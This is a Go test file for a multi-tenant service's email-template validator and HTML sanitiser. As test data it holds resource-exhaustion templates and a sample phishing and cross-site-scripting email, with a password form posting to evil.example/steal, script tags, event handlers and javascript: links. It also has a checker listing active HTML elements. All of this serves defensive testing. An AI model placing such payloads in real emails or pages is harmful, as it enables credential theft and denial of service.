package connect_test

import (
	"context"
	"errors"
	"io"
	"strings"
	"testing"
	"time"

	xhtml "golang.org/x/net/html"

	"github.com/orcidlink/orcidlink/internal/connect"
	"github.com/orcidlink/orcidlink/internal/i18n"
	"github.com/orcidlink/orcidlink/internal/store"
)

// hostileTemplates are templates a tenant could save to exhaust the
// shared server, each with what its refusal says. Every one would run for
// minutes or take gigabytes if it were ever executed: that these cases
// finish at all shows the validator refuses them by their structure,
// before they run.
func hostileTemplates() []struct {
	name string
	tmpl store.EmailTemplate
	want string
} {
	link := "{{.Link}}"
	text := func(body string) store.EmailTemplate { return store.EmailTemplate{Subject: "s", Text: body + link} }
	return []struct {
		name string
		tmpl store.EmailTemplate
		want string
	}{
		{"range over an integer (4 million)", text("{{range 4000000}}x{{end}}"), "{{range}} is not allowed"},
		{"range over a huge integer", text("{{range 9223372036854775807}}{{.Name}}{{end}}"), "{{range}} is not allowed"},
		{"nested ranges", text("{{range 100000}}{{range 100000}}x{{end}}{{end}}"), "{{range}} is not allowed"},
		{"range over a field", text("{{range .Name}}x{{end}}"), "{{range}} is not allowed"},
		{"range in the subject", store.EmailTemplate{Subject: "{{range 4000000}}x{{end}}", Text: link}, "subject: {{range}}"},
		{"range in the HTML", store.EmailTemplate{Subject: "s", Text: link, HTML: "<p>{{range 4000000}}x{{end}}</p>" + link}, "html: {{range}}"},
		{"recursion through define", text(`{{define "a"}}{{template "a"}}{{end}}{{template "a"}}`), "not allowed"},
		{"block", text(`{{block "b" .}}{{.Name}}{{end}}`), "not allowed"},
		{"template call", text(`{{template "x"}}`), "{{template}} is not allowed"},
		{"printf with a gigabyte width", text(`{{printf "%0999999999d" 1}}`), `"printf"`},
		{"print", text(`{{print .Name}}`), `"print"`},
		{"call", text(`{{call .Name}}`), `"call"`},
		{"index", text(`{{index .Name 0}}`), `"index"`},
		{"slice", text(`{{slice .Name 0 1}}`), `"slice"`},
		{"unknown field", text("{{.Password}}"), "Password"},
		{"field of a field", text("{{.Name.Length}}"), "not a field of an invitation"},
		{"source too long", text(strings.Repeat("x", 40<<10)), "at most"},
		{"too many actions", text(strings.Repeat("{{.Name}}", 2500)), "more than"},
		{"nesting too deep", text(strings.Repeat("{{if .Name}}", 40) + strings.Repeat("{{end}}", 40)), "deep"},
		{"NUL in the text", text("Hello\x00"), "control character"},
		{"escape sequence in the subject", store.EmailTemplate{Subject: "\x1b[2Jhi", Text: link}, "control character"},
	}
}

// TestValidateTemplateRefusesUnboundedTemplates: a template with an
// unbounded loop, recursion or an allocation bomb is refused at save with
// ErrTemplate and the reason, by structure (see hostileTemplates).
func TestValidateTemplateRefusesUnboundedTemplates(t *testing.T) {
	for _, tc := range hostileTemplates() {
		t.Run(tc.name, func(t *testing.T) {
			err := connect.ValidateTemplate(tc.tmpl)
			if err == nil || !errors.Is(err, connect.ErrTemplate) || !strings.Contains(err.Error(), tc.want) {
				t.Fatalf("err = %v, want ErrTemplate mentioning %q", err, tc.want)
			}
			// A template saved before these checks is held to them when
			// an invitation renders it.
			if _, _, _, err := connect.RenderTemplate(t.Context(), tc.tmpl); !errors.Is(err, connect.ErrTemplate) {
				t.Fatalf("rendering: err = %v, want ErrTemplate", err)
			}
		})
	}
}

// TestValidateTemplateAccepts: what a tenant legitimately writes passes.
func TestValidateTemplateAccepts(t *testing.T) {
	for _, tc := range []struct {
		name string
		tmpl store.EmailTemplate
	}{
		{"built-in English", connect.DefaultTemplate("en")},
		{"built-in Spanish", connect.DefaultTemplate("es")},
		{"if, else, with, variables and comparisons", store.EmailTemplate{Subject: "{{if .GivenNames}}{{.GivenNames}}{{else}}Hello{{end}}",
			Text: "{{/* a note */}}{{$n := .Name}}{{with .SupportEmail}}Ask {{.}}{{end}}{{if and (ne .Lang \"fr\") (not (eq $n \"\"))}}Dear {{$n}}{{end}}\n{{.Link}}\n"}},
		{"HTML with styles and a table", store.EmailTemplate{Subject: "s", Text: "{{.Link}}",
			HTML: `<table width="100%"><tr><td style="padding: 1em; color: #333"><a href="{{.Link}}" style="background-color: #A6CE39">Connect</a></td></tr></table>`}},
	} {
		if err := connect.ValidateTemplate(tc.tmpl); err != nil {
			t.Errorf("%s: %v", tc.name, err)
		}
	}
}

// TestTenantHTMLSanitised: a tenant's HTML email is reduced to a safe
// subset: forms, scripts, event handlers, javascript: links, meta refresh,
// frames and style blocks are gone; the text, formatting and the
// invitation link stay.
func TestTenantHTMLSanitised(t *testing.T) {
	tmpl := store.EmailTemplate{Subject: "s", Text: "{{.Link}}", HTML: `<html><head>
<meta http-equiv="refresh" content="0; url=https://evil.example/">
<style>body { background: url(https://evil.example/track) }</style>
<base href="https://evil.example/"><title>Title text</title>
<script>alert(1)</script></head>
<body onload="alert(2)">
<p class="x" style="color: red; background: url(https://evil.example/t.png)">Dear {{.Name}},</p>
<form action="https://evil.example/steal" method="post"><input name="password" type="password"><button>Log in</button></form>
<a href="javascript:alert(3)">click</a> <a href="JaVaScRiPt:alert(4)">again</a> <a href="data:text/html,hi">data</a>
<iframe src="https://evil.example/"></iframe><object data="x.swf"></object>
<img src="https://cdn.example.org/logo.png" alt="Logo" onerror="alert(5)">
<p><a href="{{.Link}}" onclick="steal()">Connect your ORCID iD</a></p>
</body></html>`}
	if err := connect.ValidateTemplate(tmpl); err != nil {
		t.Fatalf("a template whose link survives sanitising is refused: %v", err)
	}
	_, _, html, err := connect.RenderTemplate(t.Context(), tmpl)
	if err != nil {
		t.Fatal(err)
	}
	if bad := activeHTML(html); bad != "" {
		t.Errorf("sanitised HTML holds %s:\n%s", bad, html)
	}
	lower := strings.ToLower(html)
	for _, gone := range []string{"<form", "<input", "<button", "<script", "alert(", "onload", "onclick", "onerror",
		"javascript:", "refresh", "evil.example", "<iframe", "<object", "<style", "<base", "data:text", "title text", "class="} {
		if strings.Contains(lower, gone) {
			t.Errorf("sanitised HTML still holds %q:\n%s", gone, html)
		}
	}
	for _, kept := range []string{`href="` + connect.SampleLink() + `"`, "Dear Ada Lovelace,", "Connect your ORCID iD",
		`style="color: red"`, `src="https://cdn.example.org/logo.png"`, `<html lang="en" dir="ltr">`} {
		if !strings.Contains(html, kept) {
			t.Errorf("sanitised HTML lost %q:\n%s", kept, html)
		}
	}

	// A link the sanitiser removes is no link: refused at save.
	bad := store.EmailTemplate{Subject: "s", Text: "{{.Link}}", HTML: `<form action="{{.Link}}"><button>Go</button></form>`}
	if err := connect.ValidateTemplate(bad); err == nil || !strings.Contains(err.Error(), "html: must contain the invitation link") {
		t.Errorf("a link only in a form: err = %v", err)
	}
}

// TestRenderBudget: the writer a template renders into stops it past its
// output limit, and the caller stops waiting at the deadline whatever the
// template does.
func TestRenderBudget(t *testing.T) {
	out, err := connect.RunBudgeted(t.Context(), 1000, func(w io.Writer) error {
		for {
			if _, err := io.WriteString(w, "0123456789"); err != nil {
				return err
			}
		}
	})
	if !errors.Is(err, connect.ErrRenderTooLong) || out != "" {
		t.Errorf("runaway output: %q, %v", out, err)
	}

	ctx, cancel := context.WithTimeout(t.Context(), 50*time.Millisecond)
	defer cancel()
	release := make(chan struct{})
	defer close(release)
	_, err = connect.RunBudgeted(ctx, 1000, func(w io.Writer) error {
		<-release // a rendering that never ends by itself
		_, err := io.WriteString(w, "late")
		return err
	})
	if !errors.Is(err, connect.ErrRenderTooSlow) {
		t.Errorf("stuck rendering: %v", err)
	}

	got, err := connect.RunBudgeted(t.Context(), 1000, func(w io.Writer) error {
		_, err := io.WriteString(w, "fine")
		return err
	})
	if err != nil || got != "fine" {
		t.Errorf("a rendering within budget: %q, %v", got, err)
	}
}

// TestInviteDoesNotWaitOnAnotherTenantsRendering: while one tenant's
// invitation email is being rendered, another tenant's invitation is
// created, queued and committed. Rendering happens before the invitation's
// transaction, so a slow template holds no database lock (on SQLite, the
// one writer): were it rendered inside, tenant B's invitation would wait
// for tenant A's and fail at its deadline.
func TestInviteDoesNotWaitOnAnotherTenantsRendering(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	other, err := f.st.CreateTenant(f.ctx, store.Tenant{Slug: "other", Name: "Other Journal", SupportEmail: "help@other.example",
		Languages: []string{"en"}, CredentialID: f.cred.ID})
	if err != nil {
		t.Fatal(err)
	}
	op, err := f.st.CreatePerson(f.ctx, store.Person{TenantID: other.ID, GivenNames: "Olga", FamilyNames: "Other", Email: "olga@example.org"})
	if err != nil {
		t.Fatal(err)
	}
	rendering, release := make(chan struct{}), make(chan struct{})
	connect.SetCompose(f.svc, func(ctx context.Context, tn store.Tenant, p store.Person, link string) (store.Email, error) {
		if tn.ID == f.tenant.ID {
			close(rendering)
			<-release // tenant A's template takes its time
		}
		return connect.Compose(ctx, tn, p, link)
	})
	done := make(chan error, 1)
	go func() {
		_, err := f.svc.Invite(f.ctx, f.tenant.ID, f.alice.ID, store.ActorSystem, true)
		done <- err
	}()
	<-rendering

	ctx, cancel := context.WithTimeout(f.ctx, 10*time.Second)
	defer cancel()
	inv, err := f.svc.Invite(ctx, other.ID, op.ID, store.ActorSystem, true)
	if err != nil {
		close(release)
		<-done
		t.Fatalf("tenant B's invitation waited on tenant A's rendering: %v", err)
	}
	emails, err := f.st.ListTenantEmails(f.ctx, other.ID, 10)
	if err != nil || len(emails) != 1 || !strings.Contains(emails[0].TextBody, inv.Link) {
		t.Fatalf("tenant B's email is not in the outbox while A renders: %+v, %v", emails, err)
	}

	close(release)
	if err := <-done; err != nil {
		t.Fatalf("tenant A's invitation: %v", err)
	}
	if emails, _ := f.st.ListTenantEmails(f.ctx, f.tenant.ID, 10); len(emails) != 1 {
		t.Fatalf("tenant A's email: %+v", emails)
	}
}

// TestInvitationLinkLeavesOutboxOnceSent: the outbox gives the whole
// invitation until it is sent (the sender needs it; without SMTP the
// outbox is how the demo delivers), and only a redacted copy after: the
// link's token is nowhere, whichever part of the email held it.
func TestInvitationLinkLeavesOutboxOnceSent(t *testing.T) {
	f := newFixture(t, fixtureOpts{})
	f.tenant.Settings.InvitationEmails = map[string]store.EmailTemplate{"en": {
		Subject: "Your link: {{.Link}}", Text: "Open {{.Link}}\n", HTML: `<p><a href="{{.Link}}">{{.Link}}</a></p>`}}
	if _, err := f.st.UpdateTenant(f.ctx, f.tenant); err != nil {
		t.Fatal(err)
	}
	inv, err := f.svc.Invite(f.ctx, f.tenant.ID, f.alice.ID, store.ActorSystem, true)
	if err != nil {
		t.Fatal(err)
	}
	token := inv.Link[strings.LastIndex(inv.Link, "/")+1:]
	emails, err := f.st.UnsentEmails(f.ctx, 10)
	if err != nil || len(emails) != 1 || !strings.Contains(emails[0].TextBody, inv.Link) || !strings.Contains(emails[0].HTMLBody, inv.Link) {
		t.Fatalf("the sender would not have the link: %+v, %v", emails, err)
	}
	if err := f.st.MarkEmailSent(f.ctx, emails[0].ID, time.Now()); err != nil {
		t.Fatal(err)
	}
	sent, err := f.st.Email(f.ctx, emails[0].ID)
	if err != nil {
		t.Fatal(err)
	}
	for part, s := range map[string]string{"subject": sent.Subject, "text": sent.TextBody, "html": sent.HTMLBody} {
		if strings.Contains(s, token) || !strings.Contains(s, store.RedactedSecret) {
			t.Errorf("%s once sent: %q", part, s)
		}
	}
	// The link still works: only the outbox forgot it.
	if _, err := f.st.InvitationByToken(f.ctx, token); err != nil {
		t.Errorf("the invitation is not found by its token: %v", err)
	}
}

// FuzzValidateTemplate: whatever a tenant types, the validator answers
// (no panic, no hang) with ErrTemplate or not at all; what it accepts
// renders within the budgets, and its HTML holds nothing that acts.
// Run longer with: go test -run '^$' -fuzz FuzzValidateTemplate -fuzztime 10m ./internal/connect/
func FuzzValidateTemplate(f *testing.F) {
	for _, lang := range i18n.Codes() {
		d := connect.DefaultTemplate(lang)
		f.Add(d.Subject, d.Text, "")
	}
	for _, tc := range hostileTemplates() {
		f.Add(tc.tmpl.Subject, tc.tmpl.Text, tc.tmpl.HTML)
	}
	f.Add("s", "{{.Link}}", `<p onclick="x()"><a href="{{.Link}}">go</a><script>alert(1)</script></p>`)
	f.Add("{{if .Name}}{{.Name}}{{end}}", "{{with $x := .Link}}{{$x}}{{end}}", `<a href="javascript:{{.Link}}">x</a>`)
	f.Add("{{.Tenant | html}}", "{{.Link | urlquery}} {{.Link}}", `<meta http-equiv="refresh" content="0;url={{.Link}}">{{.Link}}`)
	f.Fuzz(func(t *testing.T, subject, text, html string) {
		tmpl := store.EmailTemplate{Subject: subject, Text: text, HTML: html}
		err := connect.ValidateTemplate(tmpl)
		if err != nil {
			if !errors.Is(err, connect.ErrTemplate) {
				t.Fatalf("refused without ErrTemplate: %v", err)
			}
			return
		}
		s, txt, h, err := connect.RenderTemplate(t.Context(), tmpl)
		if err != nil {
			t.Fatalf("accepted, then failed to render: %v", err)
		}
		if len(s) > 2000 || len(txt) > 256<<10 || len(h) > 256<<10+200 {
			t.Fatalf("accepted, and rendered %d, %d and %d bytes", len(s), len(txt), len(h))
		}
		if bad := activeHTML(h); bad != "" {
			t.Fatalf("accepted HTML holds %s:\n%s", bad, h)
		}
	})
}

// activeHTML names the first thing in an HTML email that acts rather than
// shows (an element that runs, submits, frames or redirects, an event
// handler, a link that is not http, https or mailto), or "".
func activeHTML(doc string) string {
	z := xhtml.NewTokenizer(strings.NewReader(doc))
	for {
		switch z.Next() {
		case xhtml.ErrorToken:
			return ""
		case xhtml.StartTagToken, xhtml.SelfClosingTagToken:
			tok := z.Token()
			switch tok.Data {
			case "script", "form", "input", "button", "textarea", "select", "iframe", "frame", "object", "embed", "base", "link", "style":
				return "<" + tok.Data + ">"
			case "meta":
				if tok.Attr == nil || len(tok.Attr) != 1 || tok.Attr[0].Key != "charset" {
					return "a <meta> of the tenant's"
				}
			}
			for _, a := range tok.Attr {
				v := strings.ToLower(strings.TrimSpace(a.Val))
				switch {
				case strings.HasPrefix(a.Key, "on"):
					return "handler " + a.Key
				case (a.Key == "href" || a.Key == "src") && !strings.HasPrefix(v, "http://") && !strings.HasPrefix(v, "https://") && !strings.HasPrefix(v, "mailto:"):
					return a.Key + "=" + a.Val
				case a.Key == "style" && strings.Contains(v, "url("):
					return "style " + a.Val
				}
			}
		}
	}
}

// BenchmarkValidateHostileTemplate: how long refusing a template with an
// unbounded loop takes at save (the target is well under a
// second; it is refused by its structure, before it runs).
func BenchmarkValidateHostileTemplate(b *testing.B) {
	tmpl := store.EmailTemplate{Subject: "s", Text: "{{range 4000000}}{{range 4000000}}x{{end}}{{end}}{{.Link}}"}
	for b.Loop() {
		if err := connect.ValidateTemplate(tmpl); err == nil {
			b.Fatal("accepted")
		}
	}
}

// BenchmarkValidateLargestTemplate: the slowest a template that passes
// can be to check and render, near every limit at once.
func BenchmarkValidateLargestTemplate(b *testing.B) {
	tmpl := store.EmailTemplate{Subject: "{{.Tenant}}: {{.Name}}", Text: strings.Repeat("{{if .Name}}{{.Name}} {{end}}", 100) + "{{.Link}}",
		HTML: strings.Repeat(`<p style="color: #333">{{.Name}} <a href="{{.Link}}">{{.Link}}</a></p>`, 100)}
	if err := connect.ValidateTemplate(tmpl); err != nil {
		b.Fatal(err)
	}
	for b.Loop() {
		_ = connect.ValidateTemplate(tmpl)
	}
}
